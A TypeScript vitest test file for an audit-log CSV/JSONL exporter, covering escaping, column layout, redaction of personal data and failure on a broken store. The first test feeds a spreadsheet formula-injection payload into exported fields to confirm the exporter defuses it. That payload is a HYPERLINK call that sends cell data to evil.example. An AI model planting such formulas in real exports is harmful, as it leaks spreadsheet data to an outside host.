import { text } from 'node:stream/consumers';
import { expect, it } from 'vitest';
import { exportEntries, type Reader } from '../../src/audit/index.ts';
import type { AuditEntry, Store } from '../../src/store/index.ts';
import { anAudit } from '../store/samples.ts';

const ALL: Reader = { within: undefined, personal: true };
const entry = (changes: Partial<AuditEntry> = {}): AuditEntry => ({
  ...anAudit({ package: 'hello' }),
  id: 1,
  at: '2026-11-24T10:00:00.000Z',
  ...changes,
});
const storeOf = (...entries: AuditEntry[]): Pick<Store, 'audit'> => ({
  audit: {
    all: async function* () {
      yield* entries;
    },
  } satisfies Partial<Store['audit']> as Partial<Store['audit']> as Store['audit'],
});

/** The cells of one record whose cells hold no line break. */
const cells = (line: string): string[] =>
  [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );

it('a formula that somebody wrote into a branch, tag or version is text in a spreadsheet', async () => {
  const formula = '=HYPERLINK("http://evil.example?"&A1,"see")';
  for (const hostile of [formula, '+1+1', '-1+1', '@SUM(A1)', '\tx', '\rx']) {
    const all = storeOf(
      entry({ tag: hostile, version: hostile, actor: { repository: hostile, claims: { branchName: hostile } } }),
    );
    const csv = await text(exportEntries(all, ALL, 'csv', {}));
    const [, record = ''] = csv.split('\n');
    expect(csv).toContain(hostile.slice(1, 5));
    for (const cell of cells(record)) expect(cell, hostile).not.toMatch(/^[=+\-@\t\r]/);
  }
});

it('CSV has a header, one record an entry, and the branch, package and reason in columns of their own', async () => {
  const csv = await text(
    exportEntries(
      storeOf(
        entry({ actor: { repository: 'https://ci.example/r', claims: { branch: 'a "b", c' } } }),
        entry({ id: 2 }),
      ),
      ALL,
      'csv',
      {},
    ),
  );
  const [header = '', record = '', ...rest] = csv.trimEnd().split('\n');
  const row = Object.fromEntries(cells(header).map((name, index) => [name, cells(record)[index]]));
  expect(row).toMatchObject({
    id: '1',
    package: 'hello',
    who: 'https://ci.example/r',
    claims: '{"branch":"a \\"b\\", c"}',
  });
  expect(rest).toHaveLength(1);
});

it("A2: what is about a person is in an administrator's export, and in nobody else's", async () => {
  const all = storeOf(entry({ personal: { actor: 'Ann' } }));
  for (const format of ['csv', 'jsonl'] as const) {
    expect(await text(exportEntries(all, ALL, format, {}))).toContain('Ann');
    expect(await text(exportEntries(all, { within: [], personal: false }, format, {}))).not.toContain('Ann');
  }
});

it('an audit that cannot be read to its end is cut off: nobody takes half of it for the whole', async () => {
  const broken: Pick<Store, 'audit'> = {
    audit: {
      all: async function* () {
        yield entry();
        throw new Error('the store is gone');
      },
    } satisfies Partial<Store['audit']> as Partial<Store['audit']> as Store['audit'],
  };
  for (const format of ['csv', 'jsonl'] as const)
    await expect(text(exportEntries(broken, ALL, format, {}))).rejects.toThrow('the store is gone');
});
